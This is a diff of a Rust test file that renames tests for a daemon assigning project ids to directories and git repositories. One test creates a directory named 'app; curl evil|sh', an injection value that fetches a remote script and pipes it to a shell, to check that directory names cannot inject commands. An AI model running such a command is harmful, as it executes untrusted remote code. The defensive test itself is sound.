@@ -56,7 +56,7 @@ fn tree(path: &Path) -> Vec<PathBuf> {
 /// The owner's permissions keep everybody else out. Only root can give the marker to another user.
 #[cfg(target_os = "linux")]
 #[test]
-fn another_users_private_marker_is_passed_over() {
+fn another_users_private_marker_is_skipped() {
     let scratch = Scratch::new();
     let dir = scratch.dir("shared");
     let place = scratch.locate(&dir).place().unwrap();
@@ -109,7 +109,7 @@ fn nothing_is_created_before_the_first_write() {
 }
 
 #[test]
-fn worktrees_and_links_are_one_project_and_a_part_is_another() {
+fn worktrees_and_links_share_a_project_and_a_part_has_its_own() {
     let scratch = Scratch::new();
     let main = scratch.repository("app");
     let side = scratch.worktree(&main, "side");
@@ -133,7 +133,7 @@ fn worktrees_and_links_are_one_project_and_a_part_is_another() {
 }
 
 #[test]
-fn an_id_from_before_git_init_is_taken_along() {
+fn an_id_from_before_git_init_is_kept() {
     let scratch = Scratch::new();
     let dir = scratch.dir("young");
     let mut daemon = Daemon::default();
@@ -166,7 +166,7 @@ fn a_move_keeps_the_id() {
 }
 
 #[test]
-fn a_copy_gets_an_id_of_its_own_and_says_how_to_share() {
+fn a_copy_gets_its_own_id_and_a_hint_how_to_share() {
     let scratch = Scratch::new();
     for dir in [scratch.repository("app"), scratch.dir("plain")] {
         let mut daemon = Daemon::default();
@@ -192,7 +192,7 @@ fn a_copy_gets_an_id_of_its_own_and_says_how_to_share() {
 
 /// Anyone who knows an id can put it into a directory while the original is away.
 #[test]
-fn an_id_elsewhere_is_a_copys_and_the_owner_who_comes_back_is_not() {
+fn a_copied_id_is_a_copy_and_the_returning_original_keeps_it() {
     let scratch = Scratch::new();
     for dir in [scratch.repository("app"), scratch.dir("plain")] {
         let mut daemon = Daemon::default();
@@ -223,7 +223,7 @@ fn an_id_elsewhere_is_a_copys_and_the_owner_who_comes_back_is_not() {
 }
 
 #[test]
-fn a_record_of_an_earlier_build_is_completed_where_it_was_seen() {
+fn a_record_of_an_earlier_build_is_completed_when_seen_again() {
     let scratch = Scratch::new();
     for dir in [scratch.repository("app"), scratch.dir("plain")] {
         let located = scratch.locate(&dir);
@@ -257,7 +257,7 @@ fn a_record_of_an_earlier_build_is_completed_where_it_was_seen() {
 
 /// A fork can bring `.anchord/project-id` in a commit.
 #[test]
-fn an_id_that_git_tracks_does_not_count() {
+fn an_id_tracked_by_git_is_ignored() {
     let scratch = Scratch::new();
     let owner = scratch.dir("plain");
     let mut daemon = Daemon::default();
@@ -295,7 +295,7 @@ fn an_id_that_git_tracks_does_not_count() {
 }
 
 #[test]
-fn a_directory_that_the_registry_alone_knows_keeps_its_memory_whatever_id_it_gets() {
+fn a_directory_known_only_to_the_registry_keeps_its_memory() {
     let scratch = Scratch::new();
     let above = scratch.dir("work");
     scratch.repository("work/app");
@@ -315,7 +315,7 @@ fn a_directory_that_the_registry_alone_knows_keeps_its_memory_whatever_id_it_get
 }
 
 #[test]
-fn a_copy_whose_folder_becomes_a_repository_does_not_take_the_originals_id() {
+fn a_copy_that_becomes_a_repository_does_not_take_the_originals_id() {
     let scratch = Scratch::new();
     let dir = scratch.dir("plain");
     let mut daemon = Daemon::default();
@@ -343,7 +343,7 @@ fn a_link_shares_a_memory_and_writes_nothing() {
 }
 
 #[test]
-fn where_the_id_cannot_be_written_the_registry_remembers() {
+fn the_registry_remembers_an_id_that_cannot_be_written() {
     let scratch = Scratch::new();
     let dir = scratch.dir("stubborn");
     scratch.file("stubborn/.anchord", "a file where the directory would be");
@@ -374,7 +374,7 @@ fn where_the_id_cannot_be_written_the_registry_remembers() {
 }
 
 #[test]
-fn a_copy_that_cannot_be_written_is_told_from_its_original_for_good() {
+fn an_unwritable_copy_keeps_its_own_id() {
     let scratch = Scratch::new();
     let dir = scratch.repository("app");
     let mut daemon = Daemon::default();
@@ -400,7 +400,7 @@ fn a_copy_that_cannot_be_written_is_told_from_its_original_for_good() {
 type Trap = fn(&Path, &Path);
 
 #[test]
-fn a_prepared_repository_cannot_lead_the_write_elsewhere() {
+fn a_crafted_repository_cannot_redirect_the_write() {
     let scratch = Scratch::new();
     let victim = scratch.dir("victim");
     let traps: [(&str, Trap); 4] = [
@@ -431,7 +431,7 @@ fn a_prepared_repository_cannot_lead_the_write_elsewhere() {
 }
 
 #[test]
-fn a_git_directory_that_is_none_is_not_written() {
+fn an_invalid_git_directory_is_not_written_to() {
     let scratch = Scratch::new();
     let dir = scratch.dir("not-git");
     let place = ProjectDir::of(dir.clone(), true, None).unwrap();
@@ -470,7 +470,7 @@ fn racing_daemons_agree_on_one_id() {
 }
 
 #[test]
-fn an_id_that_is_gone_is_told_and_one_that_was_emptied_is_an_error() {
+fn a_missing_id_is_reported_and_an_empty_one_is_an_error() {
     for directory in ["app", "plain"] {
         let scratch = Scratch::new();
         let dir = if directory == "app" { scratch.repository("app") } else { scratch.dir("plain") };
@@ -506,7 +506,7 @@ fn an_id_that_is_gone_is_told_and_one_that_was_emptied_is_an_error() {
 }
 
 #[test]
-fn no_marker_is_created_above_repositories_or_what_cannot_be_looked_through() {
+fn no_marker_is_created_above_repositories_or_unsearchable_directories() {
     let scratch = Scratch::new();
     let above = scratch.dir("above");
     let app = scratch.repository("above/app");
@@ -538,7 +538,7 @@ fn no_marker_is_created_above_repositories_or_what_cannot_be_looked_through() {
 }
 
 #[test]
-fn an_id_file_of_another_user_is_not_read_and_its_directory_not_written() {
+fn another_users_id_file_is_not_read_and_its_directory_not_written() {
     let scratch = Scratch::new();
     let dir = scratch.dir("plain");
     let mut daemon = Daemon::default();
@@ -558,7 +558,7 @@ fn an_id_file_of_another_user_is_not_read_and_its_directory_not_written() {
 }
 
 #[test]
-fn a_memory_of_the_directory_above_is_named_with_the_ways_to_go_on() {
+fn a_memory_of_the_parent_directory_is_reported_with_the_options() {
     let scratch = Scratch::new();
     let above = scratch.dir("work");
     scratch.dir("work/.anchord");
@@ -585,7 +585,7 @@ fn a_memory_of_the_directory_above_is_named_with_the_ways_to_go_on() {
 }
 
 #[test]
-fn a_directorys_name_chooses_no_command() {
+fn a_directory_name_cannot_inject_a_command() {
     let scratch = Scratch::new();
     let dir = scratch.dir("app; curl evil|sh");
     let mut daemon = Daemon::default();
